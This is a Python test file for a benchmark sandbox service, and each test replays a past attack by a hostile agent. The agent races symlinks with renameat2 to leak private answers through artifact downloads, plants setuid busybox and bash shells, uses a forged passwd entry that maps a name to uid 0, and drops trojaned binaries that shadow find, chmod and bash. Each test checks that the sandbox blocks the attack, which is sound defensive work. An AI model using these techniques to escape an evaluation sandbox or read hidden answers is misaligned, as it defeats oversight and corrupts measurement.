"""Hostile agents in real Docker sandboxes, through the real sandbox service.

Each test is an attack that worked once: reading the private answers through
DownloadArtifacts while racing renames and links, running as root through odd spellings of
the image's USER, and getting root through compat mode's preparation step.
"""

from __future__ import annotations

import asyncio
import hashlib
import io
import os
import re
import subprocess
import tarfile
import uuid
from pathlib import Path

import grpc
import pytest
from mleb.sandbox.v1 import sandbox_pb2, sandbox_service_pb2

pytestmark = pytest.mark.docker
S = sandbox_pb2
BUSYBOX = "mleb-test-busybox"
PYTHON = "mleb-test-python"
MLEBENCH_ENV = "mleb-test-mlebench-env"
SECRET = "PRIVATE-" + uuid.uuid4().hex


@pytest.fixture
def derived_images(engine):
    """Builds images from the test images without a registry: create, copy in, commit."""
    made: list[str] = []

    def derive(base: str, files: dict[str, tuple[bytes, int]], changes: list[str]) -> str:
        container = engine.containers.create(base)  # never started: its config is kept
        try:
            if files:
                buffer = io.BytesIO()
                with tarfile.open(fileobj=buffer, mode="w") as tar:
                    for name, (data, mode) in files.items():
                        member = tarfile.TarInfo(name.lstrip("/"))
                        member.size, member.mode = len(data), mode
                        tar.addfile(member, io.BytesIO(data))
                container.put_archive("/", buffer.getvalue())
            tag = f"mleb-test-hostile:{uuid.uuid4().hex[:10]}"
            container.commit(*tag.split(":"), changes=changes)
        finally:
            container.remove(force=True)
        made.append(tag)
        return tag

    yield derive
    for tag in made:
        engine.images.remove(tag, force=True)


def _host_root(stack, sandbox_id: str) -> Path:
    return stack.sandbox_settings.work_dir / "sandboxes" / sandbox_id


def _private_folder(stack) -> Path:
    """The registry's private folder for the competition, with a secret of our own in it."""
    data = Path(stack.settings.data_dir)
    folders = {p.parent for p in data.rglob("*") if p.is_file() and "private" in p.parts}
    assert folders, "the registry stored no private files"
    folder = sorted(folders)[0]
    (folder / "secret.txt").write_text(SECRET + "\n")
    return folder


# The agent: learns its host paths from mountinfo (as the real attack did), then plants
# links to the answers and to host files at every level, and swaps a real folder with a
# link to the private folder (renameat2 RENAME_EXCHANGE) until its time is up.
RACING_AGENT = r"""
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
private = os.environ["PRIVATE"]
mounts = [line.split()[4] for line in open("/proc/self/mountinfo")]
assert "/home/submission" in mounts, mounts
sub = "/home/submission"
os.makedirs(sub + "/work/deeper", exist_ok=True)
open(sub + "/work/deeper/mine.csv", "w").write("mine\n")
open(sub + "/submission.csv", "w").write("id,y\n1,2\n")
os.symlink(private, sub + "/swap")
os.symlink(private + "/secret.txt", "/home/logs/secret.txt")
os.symlink(private, "/home/code/private")
os.symlink("/etc", "/home/code/etc")
os.symlink("/etc/hostname", "/home/logs/hostname")
print("racing", flush=True)
swaps, deadline = 0, time.time() + float(os.environ["RACE_SECONDS"])
while time.time() < deadline:
    for a, b in ((sub + "/work", sub + "/swap"), (sub + "/work/deeper", sub + "/swap")):
        libc.renameat2(-100, a.encode(), -100, b.encode(), 2)
        swaps += 1
print("swaps", swaps, flush=True)
"""


async def _download(stub, metadata, sandbox_id: str) -> bytes:
    request = sandbox_service_pb2.DownloadArtifactsRequest(sandbox_id=sandbox_id)
    data, expected = bytearray(), None
    async for reply in stub.DownloadArtifacts(request, metadata=metadata):
        if expected is None:
            expected = (reply.total_size_bytes, reply.sha256)
        data += reply.data
    assert expected == (len(data), hashlib.sha256(data).hexdigest())
    return bytes(data)


async def test_racing_links_never_leak_answers_through_artifact_downloads(docker_stack):
    private = _private_folder(docker_stack)
    answers = {p.read_bytes() for p in private.iterdir() if p.is_file()}
    _server, stub = await docker_stack.start()
    sandbox = await docker_stack.create(
        stub,
        ["python3", "-c", RACING_AGENT],
        image=PYTHON,
        env={"PRIVATE": str(private), "RACE_SECONDS": "40"},
    )
    await docker_stack.wait_for(stub, sandbox.id, {S.SANDBOX_STATE_RUNNING})
    hits, codes, names, contents, downloads = 0, {}, set(), set(), 0
    async with asyncio.timeout(120):
        while downloads < 200:
            try:
                data = await _download(stub, docker_stack.metadata, sandbox.id)
            except grpc.aio.AioRpcError as err:
                codes[err.code()] = codes.get(err.code(), 0) + 1
                continue
            finally:
                downloads += 1
            with tarfile.open(fileobj=io.BytesIO(data)) as tar:
                for member in tar:
                    names.add(member.name)
                    if member.isfile():
                        content = tar.extractfile(member).read()
                        contents.add(content)
                        hits += SECRET.encode() in content or content in answers
    done = await docker_stack.wait_for(stub, sandbox.id, timeout=90)
    assert done.state == S.SANDBOX_STATE_SUCCEEDED, done.failure_message
    logs = [e.text for e in await docker_stack.logs(stub, sandbox.id)]
    assert any(t.startswith("swaps ") and int(t.split()[1]) > 1000 for t in logs), logs[-5:]
    assert hits == 0
    assert grpc.StatusCode.INTERNAL not in codes and grpc.StatusCode.UNKNOWN not in codes, codes
    assert downloads == 200 and sum(codes.values()) < 20, codes
    # Only the agent's own files: no link, host file or answer, under any name.
    assert all(name.split("/")[0] in {"submission", "logs", "code"} for name in names)
    assert not {n for n in names if re.search(r"secret|hostname|private|etc", n)}, names
    assert contents <= {b"mine\n", b"id,y\n1,2\n"}, contents
    assert b"mine\n" in contents


def _status(lines: list[str]) -> dict[str, list[str]]:
    fields = {}
    for line in lines:
        name, _, value = line.partition(":")
        if name in {"Uid", "Gid", "Groups", "CapEff", "CapPrm", "NoNewPrivs"}:
            fields[name] = value.split()
    return fields


PLANT_SETUID = (
    "grep -E '^(Uid|Gid|Groups|CapEff|CapPrm|NoNewPrivs):' /proc/self/status; "
    "cp /bin/busybox /home/submission/rootsh && chmod 6755 /home/submission/rootsh; "
    "cp /home/submission/rootsh /home/submission/submission.csv; true"
)
ROOT_PASSWD = (
    b"root:x:0:0:root:/root:/bin/sh\nagent:x:1000:1000::/home/agent:/bin/sh\n"
    b"toor:x:0:0::/root:/bin/sh\nnobody:x:65534:65534::/:/bin/sh\n"
)
ROOT_GROUP = b"root:x:0:agent\nagent:x:1000:\nnobody:x:65534:\n"


@pytest.mark.parametrize(
    ("user", "expected"),
    [
        ("00", (1000, 1000)),
        ("0:0", (1000, 1000)),
        ("root:root", (1000, 1000)),
        ("+0", (1000, 1000)),
        ("toor", (1000, 1000)),  # a name that the image's own /etc/passwd maps to uid 0
        ("agent:0", (1000, 1000)),
        ("agent:root", (1000, 1000)),
        ("agent", (1000, 1000)),  # and group 0 from /etc/group is not added either
        ("65534:65534", (65534, 65534)),
    ],
)
async def test_no_spelling_of_the_image_user_runs_the_agent_as_root(
    docker_stack, derived_images, user, expected
):
    files = {"/etc/passwd": (ROOT_PASSWD, 0o644), "/etc/group": (ROOT_GROUP, 0o644)}
    image = derived_images(BUSYBOX, files, [f"USER {user}"])
    _server, stub = await docker_stack.start()
    sandbox = await docker_stack.create(stub, ["sh", "-c", PLANT_SETUID], image=image)
    done = await docker_stack.wait_for(stub, sandbox.id, timeout=90)
    assert done.state == S.SANDBOX_STATE_SUCCEEDED, done.failure_message
    status = _status([e.text for e in await docker_stack.logs(stub, sandbox.id)])
    uid, gid = expected
    assert status["Uid"] == [str(uid)] * 4 and status["Gid"] == [str(gid)] * 4, status
    assert "0" not in status.get("Groups", []), status
    assert int(status["CapEff"][0], 16) == 0 and int(status["CapPrm"][0], 16) == 0
    assert status["NoNewPrivs"] == ["1"]
    _assert_host_cannot_use(_host_root(docker_stack, sandbox.id))


def _assert_host_cannot_use(root: Path) -> None:
    """Nothing the agent left is root-owned with a setuid bit, and other host users cannot
    even reach the sandbox folder."""
    assert root.stat().st_mode & 0o077 == 0, oct(root.stat().st_mode)
    for path in root.rglob("*"):
        info = path.lstat()
        assert not (info.st_uid == 0 and info.st_mode & 0o6000), path
    planted = root / "submission" / "rootsh"
    if os.geteuid() == 0 and planted.exists():
        probe = subprocess.run(
            ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "test", "-e", planted],
            check=False,
        )
        assert probe.returncode != 0, "another host user reached the agent's setuid file"


TROJAN = b"""#!/bin/sh
{ echo "$0 uid=$(id -u) $(grep CapEff /proc/self/status)"; } >>/home/logs/trojan.log 2>/dev/null
cp /bin/bash /home/submission/trojan-rootsh 2>/dev/null && chmod 6755 /home/submission/trojan-rootsh
exec /usr/bin/$(basename "$0") "$@"
"""


async def test_compat_mode_runs_nothing_from_the_image_with_privilege(docker_stack, derived_images):
    trojans = {f"/usr/local/bin/{name}": (TROJAN, 0o755) for name in ("find", "setpriv", "chmod")}
    trojans["/usr/local/bin/bash"] = (
        TROJAN.replace(b"/usr/bin/$(basename", b"/bin/$(basename"),
        0o755,
    )
    image = derived_images(MLEBENCH_ENV, trojans, [])
    _server, stub = await docker_stack.start()
    sandbox = await docker_stack.create(stub, [], image=image, mlebench_compat=True)
    done = await docker_stack.wait_for(stub, sandbox.id, timeout=90)
    texts = [e.text for e in await docker_stack.logs(stub, sandbox.id)]
    assert done.state == S.SANDBOX_STATE_SUCCEEDED, (done.failure_message, texts[-10:])
    assert any(t.startswith("start.sh user=nonroot") for t in texts), texts
    assert "agent dir writable" in texts
    root = _host_root(docker_stack, sandbox.id)
    ran = (root / "logs" / "trojan.log").read_text().splitlines()
    assert ran, "the trojaned bash should have run, unprivileged"
    for line in ran:
        uid = int(re.search(r"uid=(\d+)", line).group(1))
        caps = int(re.search(r"CapEff:\s*([0-9a-f]+)", line).group(1), 16)
        assert uid != 0 and caps == 0, line
    _assert_host_cannot_use(root)


async def test_an_mlebench_image_outside_compat_mode_says_what_to_do(docker_stack):
    _server, stub = await docker_stack.start()
    sandbox = await docker_stack.create(stub, [], image=MLEBENCH_ENV)
    done = await docker_stack.wait_for(stub, sandbox.id, timeout=60)
    assert done.state == S.SANDBOX_STATE_FAILED
    assert done.failure_reason == S.FAILURE_REASON_IMAGE_UNSUPPORTED
    assert done.failure_class == S.FAILURE_CLASS_AGENT  # the lab's to fix: never retried
    assert "compat" in done.failure_message and "MLE-bench" in done.failure_message
